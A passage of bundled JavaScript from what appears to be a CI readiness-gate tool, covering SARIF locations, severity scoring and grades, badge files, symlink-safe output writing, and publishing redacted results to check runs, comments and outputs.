      ...f.evidence !== void 0 ? { evidence: f.evidence } : {},
      ...f.baseline ? { baseline: f.baseline } : {}
    }
  };
}
var NO_FILE_URI = "no file associated with this alert";
function physicalLocation(l, prefix) {
  if (l.path === ".") return { artifactLocation: { uri: encodeURI(NO_FILE_URI) }, region: { startLine: 1 } };
  const uri = encodePath(repoPath(prefix, l.path));
  const out = { artifactLocation: { uri, uriBaseId: "%SRCROOT%" } };
  if (l.line === void 0 || l.line < 1) return out;
  const region = { startLine: l.line };
  if (l.column !== void 0 && l.column >= 1) region.startColumn = l.column;
  if (l.endLine !== void 0 && l.endLine >= l.line) region.endLine = l.endLine;
  if (l.endColumn !== void 0 && l.endColumn >= 1) {
    const sameLine = (region.endLine ?? l.line) === l.line;
    if (!sameLine || region.startColumn === void 0 || l.endColumn >= region.startColumn) region.endColumn = l.endColumn;
  }
  out.region = region;
  return out;
}
function pascalCase(id) {
  return id.split(/[^A-Za-z0-9]+/).filter(Boolean).map((w) => w.charAt(0).toUpperCase() + w.slice(1)).join("");
}
function cap(s, max) {
  return s.length <= max ? s : `${s.slice(0, max - 1)}…`;
}

// src/publish.ts
import { resolve as resolve3 } from "node:path";

// src/io/write-output.ts
import { execFileSync } from "node:child_process";
import { closeSync, constants, lstatSync as lstatSync2, mkdirSync, openSync, renameSync, unlinkSync, writeSync } from "node:fs";
import { basename as basename2, dirname as dirname3, isAbsolute as isAbsolute2, relative as relative2, resolve as resolve2, sep as sep2 } from "node:path";
import { randomBytes } from "node:crypto";

// src/report/badge.ts
import { basename, dirname as dirname2, join as join2 } from "node:path";

// src/policy/score.ts
var WEIGHTS = { P0: 25, P1: 5, P2: 1 };
function rulePoints(severity, n) {
  return WEIGHTS[severity] * (1 + Math.log2(n));
}
function scoreOf(points) {
  return Math.round(100 * 100 / (100 + points));
}
function computeScore(findings, outcomes) {
  const applicable = /* @__PURE__ */ new Set();
  for (const o of outcomes) if (o.status !== "not-applicable") applicable.add(o.area);
  for (const f of findings) applicable.add(f.area);
  const perRule = /* @__PURE__ */ new Map();
  for (const f of findings) {
    const k = `${f.ruleId}/${f.severity}`;
    const e = perRule.get(k) ?? { area: f.area, severity: f.severity, n: 0 };
    e.n++;
    perRule.set(k, e);
  }
  const points = /* @__PURE__ */ new Map();
  let total = 0;
  for (const k of [...perRule.keys()].sort()) {
    const e = perRule.get(k);
    const p = rulePoints(e.severity, e.n);
    points.set(e.area, (points.get(e.area) ?? 0) + p);
  }
  const areas = {};
  for (const a of AREAS) {
    if (!applicable.has(a)) continue;
    areas[a] = scoreOf(points.get(a) ?? 0);
    total += points.get(a) ?? 0;
  }
  const value = scoreOf(total);
  return { value, grade: gradeOf(value), areas };
}
var GRADES = ["A", "B", "C", "D", "F"];
function gradeOf(value) {
  return value >= 90 ? "A" : value >= 80 ? "B" : value >= 70 ? "C" : value >= 60 ? "D" : "F";
}

// src/report/badge.ts
var BADGE_LABEL = "readiness";
var GRADE_COLOR = { A: "brightgreen", B: "green", C: "yellowgreen", D: "orange", F: "red" };
function badge(blocked, grade) {
  const g = GRADES.find((x) => x === grade);
  if (blocked === null) return { schemaVersion: 1, label: BADGE_LABEL, message: "unknown", color: "lightgrey", isError: true };
  const verdict = blocked ? "blocked" : "ready";
  return {
    schemaVersion: 1,
    label: BADGE_LABEL,
    message: g ? `${verdict} · ${g}` : verdict,
    color: blocked ? "red" : g ? GRADE_COLOR[g] : "lightgrey"
  };
}
function badgeFor(row) {
  if (row.status !== "scanned" || row.blocked === null) return { ...badge(null, null), message: "scan failed" };
  return badge(row.blocked, row.grade);
}
function badgeForRun(r) {
  return badge(r.verdict.blocked, r.score.grade);
}
function renderBadge(b) {
  return `${JSON.stringify(b, null, 2)}
`;
}
function badgePath(reportPath) {
  const name = basename(reportPath);
  const stem = /\.json$/i.test(name) && name.length > 5 ? name.slice(0, -5) : name;
  const dir = dirname2(reportPath);
  return dir === "." && !reportPath.startsWith("./") ? `${stem}.badge.json` : join2(dir, `${stem}.badge.json`);
}

// src/io/write-output.ts
var OUTPUT_INPUTS = ["report", "sarif", "sbom"];
var COMMITTED_MAX_BYTES = 64 * 1024 * 1024;
function locateBelow(abs, roots) {
  const at = locate(abs, roots);
  return at && at.rest.length > 0 ? at : void 0;
}
function lstatOrNull(p) {
  try {
    return lstatSync2(p);
  } catch (e) {
    const code = e.code;
    if (code === "ENOENT") return null;
    throw e;
  }
}
function refuse(t, why) {
  const what = t.input === "badge" ? "the badge beside input 'report'" : `input '${t.input}'`;
  throw new ConfigurationError(`${what} (${JSON.stringify(t.path)}) ${why}; accepted: a file path inside the workspace or RUNNER_TEMP with no symbolic link on the way, or an absolute path`);
}
function outputTarget(input, path, cwd, roots = trustedRoots(cwd)) {
  const abs = resolve2(cwd, path);
  const at = locateBelow(abs, roots);
  const t = { input, path, abs, ...at };
  if (!at) {
    if (!isAbsolute2(path)) refuse(t, "resolves outside the workspace");
    if (lstatOrNull(abs)?.isDirectory()) refuse(t, "is a directory");
    return t;
  }
  checkComponents(t);
  return t;
}
function checkComponents(t) {
  let cur = t.root;
  const rest = t.rest;
  for (let i = 0; i < rest.length; i++) {
    cur = `${cur}${sep2}${rest[i]}`;
    let st;
    try {
      st = lstatOrNull(cur);
    } catch (e) {
      refuse(t, `cannot be checked (${e.code})`);
    }
    if (st === null) return;
    const last = i === rest.length - 1;
    if (st.isSymbolicLink()) refuse(t, last ? "is a symbolic link" : `lies under a symbolic link (${rest.slice(0, i + 1).join("/")})`);
    if (last && st.isDirectory()) refuse(t, "is a directory");
    if (!last && !st.isDirectory()) refuse(t, `lies under ${rest.slice(0, i + 1).join("/")}, which is not a directory`);
  }
}
function prepareOutputs(paths, cwd, roots = trustedRoots(cwd), keep = []) {
  const kept = new Set(keep.map((k) => resolve2(cwd, k)));
  const targets = [];
  const committed = /* @__PURE__ */ new Map();
  let first;
  for (const input of OUTPUT_INPUTS) {
    const p = paths[input];
    if (p === null || p === void 0 || p === "") continue;
    try {
      targets.push(outputTarget(input, p, cwd, roots));
    } catch (e) {
      first ??= e;
    }
    if (!kept.has(resolve2(cwd, p))) removeStale(input, p, cwd, roots, committed);
    if (input === "report") {
      const b = badgePath(p);
      try {
        targets.push(outputTarget("badge", b, cwd, roots));
      } catch (e) {
        first ??= e;
      }
      if (!kept.has(resolve2(cwd, b))) removeStale("badge", b, cwd, roots, committed);
    }
  }
  if (first !== void 0) throw first;
  return { targets, committed };
}
function removeStale(input, path, cwd, roots, committed) {
  const abs = resolve2(cwd, path);
  const at = locateBelow(abs, roots);
  if (!at) {
    if (!isAbsolute2(path)) return;
  } else {
    let cur = at.root;
    for (const part of at.rest.slice(0, -1)) {
      cur = `${cur}${sep2}${part}`;
      const st2 = lstatOrNull(cur);
      if (st2 === null || st2.isSymbolicLink() || !st2.isDirectory()) return;
    }
  }
  const st = lstatOrNull(abs);
  if (st === null || st.isDirectory()) return;
  if (st.isFile()) {
    const bytes = committedBytes(abs);
    if (bytes) committed.set(abs, bytes);
  }
  try {
    unlinkSync(abs);
  } catch (e) {
    throw new ConfigurationError(`input '${input}' (${JSON.stringify(path)}): the previous file cannot be removed (${e.code})`);
  }
}
function committedBytes(abs) {
  const git = (args, encoding) => execFileSync("git", ["-c", "core.fsmonitor=false", ...args], { cwd: dirname3(abs), encoding, maxBuffer: COMMITTED_MAX_BYTES + 1024, stdio: ["ignore", "pipe", "ignore"] });
  try {
    const entry = git(["--literal-pathspecs", "ls-files", "-s", "-z", "--", basename2(abs)], "utf8").split("\0")[0] ?? "";
    const m = /^(100644|100755) ([0-9a-f]{40,64}) 0\t/.exec(entry);
    if (!m) return void 0;
    return git(["cat-file", "blob", m[2]]);
  } catch {
    return void 0;
  }
}
function writeOutput(t, text) {
  if (t.root !== void 0) {
    checkComponents(t);
    let cur = t.root;
    for (const part of t.rest.slice(0, -1)) {
      cur = `${cur}${sep2}${part}`;
      try {
        mkdirSync(cur);
      } catch (e) {
        if (e.code !== "EEXIST") refuse(t, `cannot be created (${e.code})`);
      }
      const st = lstatSync2(cur);
      if (st.isSymbolicLink() || !st.isDirectory()) refuse(t, `lies under a symbolic link or a file (${relative2(t.root, cur)})`);
    }
  } else {
    mkdirSync(dirname3(t.abs), { recursive: true });
  }
  try {
    replaceFile(t.abs, text);
  } catch (e) {
    if (e.code === "EISDIR" || e.code === "ENOTEMPTY") refuse(t, "is a directory");
    throw e;
  }
}
function replaceFile(abs, text) {
  const tmp = `${dirname3(abs)}${sep2}.${basename2(abs)}.${process.pid}.${randomBytes(6).toString("hex")}.tmp`;
  let fd;
  try {
    fd = openSync(tmp, constants.O_WRONLY | constants.O_CREAT | constants.O_EXCL | constants.O_NOFOLLOW, 420);
    const buf = Buffer.from(text, "utf8");
    for (let off = 0; off < buf.length; ) off += writeSync(fd, buf, off, buf.length - off);
    closeSync(fd);
    fd = void 0;
    renameSync(tmp, abs);
  } catch (e) {
    if (fd !== void 0) closeSync(fd);
    try {
      unlinkSync(tmp);
    } catch {
    }
    throw e;
  }
}

// src/publish.ts
var CHECK_SUMMARY_MAX_CHARS = 65535;
async function publish(run, sink = {}) {
  const { result: r, redactor } = safeRun(run);
  const scrub = (text) => redactor.text(text);
  const write = (input, path, text) => {
    if (path === null) return null;
    const format = input === "summary-markdown" ? void 0 : input === "sbom" && r.options.sbomFormat === "xml" ? "xml" : "json";
    const body = text();
    writeOutput(outputTarget(input, path, r.options.cwd), format ? redactor.document(body, format) : scrub(body));
    return path;
  };
  const wantsMarkdown = sink.summary !== void 0 || sink.summaryFile !== void 0 || sink.checkRun !== void 0 && r.options.annotations === "check-run";
  const markdown = wantsMarkdown ? scrub(renderSummary(r)) : "";
  const report = write("report", r.options.report, () => renderJson(r));
  const written = {
    report,
    badge: write("badge", badgeTarget(r, report), () => renderBadge(badgeForRun(r))),
    sarif: write("sarif", r.options.sarif, () => renderSarif(r)),
    sbom: writeSbom(r, write),
    summary: sink.summaryFile !== void 0 ? write("summary-markdown", sink.summaryFile, () => markdown) : null
  };
  if (sink.summary) await sink.summary(markdown);
  const verdict = verdictText(r, redactor);
  const runNotes = [
    ...r.verdict.blocked ? [{ level: "error", message: verdict, title: "" }] : [],
    ...warningTexts(r, redactor).map((w) => ({ level: "warning", message: w, title: "readiness-gate" }))
  ];
  if (sink.upload && r.options.uploadArtifact !== null) {
    const files = [written.report, written.sarif, written.sbom, written.summary].filter((p) => p !== null);
    const m = await sink.upload(r.options.uploadArtifact, files);
    if (m.level === "info") sink.log?.(scrub(m.text));
    else runNotes.push({ level: m.level, message: scrub(m.text), title: "readiness-gate" });
  }
  const posted = async (post) => {
    const o = await post;
    if (o.ok) {
      if (o.log) sink.log?.(scrub(o.log));
    } else runNotes.push({ level: "notice", message: scrub(o.notice), title: "readiness-gate" });
    return o.ok;
  };
  let findingsAnnotated = false;
  if (r.options.annotations === "check-run" && sink.checkRun) {
    findingsAnnotated = await posted(
      sink.checkRun({
        conclusion: r.verdict.blocked ? "failure" : "success",
        title: verdict,
        // Over the limit: rendered again within it (shortened lists, as for the job summary's 1 MiB), cut as a last resort.
        summary: cutAtLine(
          markdown.length <= CHECK_SUMMARY_MAX_CHARS ? markdown : scrub(renderSummary(r, CHECK_SUMMARY_MAX_CHARS)),
          CHECK_SUMMARY_MAX_CHARS,
          "\n\n… (cut to fit the check run: the full summary is in the job summary)\n"
        ),
        annotations: checkRunAnnotations(r).map((a) => scrubCheckAnnotation(a, scrub))
      })
    );
  }
  if (r.options.prComment !== "off" && sink.comment) {
    const plan = commentPlan(r, r.options.prComment);
    await posted(sink.comment({ ...plan, body: scrub(plan.body) }));
  }
  if (sink.dependencyGraph && r.options.dependencyGraph && r.dependencyGraph) {
    const m = await sink.dependencyGraph(r.dependencyGraph);
    if (m.level === "info") sink.log?.(scrub(m.text));
    else runNotes.push({ level: m.level, message: scrub(m.text), title: "readiness-gate" });
  }
  if (sink.annotate) {
    for (const a of selectAnnotations(r, findingsAnnotated ? 0 : r.options.maxAnnotations, runNotes)) {
      sink.annotate({ ...a, message: scrub(a.message), title: scrub(a.title), ...a.file !== void 0 ? { file: scrub(a.file) } : {} });
    }
  }
  if (sink.output) {
    const out = {
      blocked: String(r.verdict.blocked),
      score: String(r.score.value),
      grade: r.score.grade,
      p0: String(r.counts.P0),
      p1: String(r.counts.P1),
      p2: String(r.counts.P2),
      // Findings the baseline does not know: every finding when there is no baseline.
      new: String(r.findings.filter((f) => f.baseline !== "existing").length),
      report: written.report ?? "",
      badge: written.badge ?? "",
      sarif: written.sarif ?? "",
      sbom: written.sbom ?? "",
      "summary-markdown": written.summary ?? ""
    };
    for (const [k, v] of Object.entries(out)) sink.output(k, v);
  }
  return written;
}
function badgeTarget(r, report) {
  if (report === null) return null;
  const path = badgePath(report);
  const at = resolve3(r.options.cwd, path);
  const others = [r.options.sarif, r.sbom?.path ?? null].filter((p) => p !== null);
  return others.some((p) => resolve3(r.options.cwd, p) === at) ? null : path;
}
function scrubCheckAnnotation(a, scrub) {
  return { ...a, path: scrub(a.path), title: scrub(a.title), message: scrub(a.message), ...a.raw_details !== void 0 ? { raw_details: scrub(a.raw_details) } : {} };
}
function writeSbom(r, write) {
  const sbom = r.sbom;
  return sbom ? write("sbom", sbom.path, () => sbom.document) : null;
}
function scrubbed(run, render3, format) {
  const { result: result2, redactor } = safeRun(run);
  const text = render3(result2);
  return format ? redactor.document(text, format) : redactor.text(text);
}
function scrubMessage(text) {
  return new Redactor([]).text(text);
}
function verdictLine(run) {
  const { result: result2, redactor } = safeRun(run);
  return verdictText(result2, redactor);
}
function verdictText(r, redactor) {
  const line = r.verdict.blocked ? `BLOCKED: ${r.verdict.reasons.join("; ")} (score ${r.score.value}, grade ${r.score.grade})` : `READY: no finding at or above ${r.options.failOn} and every threshold met (score ${r.score.value}, grade ${r.score.grade})`;
  return redactor.text(line);
}
function warnings(run) {
  const { result: result2, redactor } = safeRun(run);
  return warningTexts(result2, redactor);
}
function warningTexts(r, redactor) {
  const out = [...r.notices];
  if (r.files.scanned === 0) out.push(`No file was scanned in '${r.root}': check the path input and paths.ignore in the configuration.`);
  return out.map((w) => redactor.text(w));
}

export {
  SEVERITIES,
  SKIP_REASONS,
  SUMMARY_LIMIT_BYTES,
  renderSummary,
  postComment,
  didYouMean,
  INPUTS,
  DEFAULT_MAX_FILE_SIZE,
  CONFIG_CANDIDATES,
  CONFIG_MAX_BYTES,
  parseList,
  readCheckoutConfig,
  resolveOptions,
  relPosix,
  computeScore,
  GRADES,
  gradeOf,
  badgeFor,
  renderBadge,
  badgePath,
  OUTPUT_INPUTS,
  prepareOutputs,
  replaceFile,
  renderJson,
  renderSarif,
  publish,
  scrubbed,
  scrubMessage,
  verdictLine,
  warnings
};
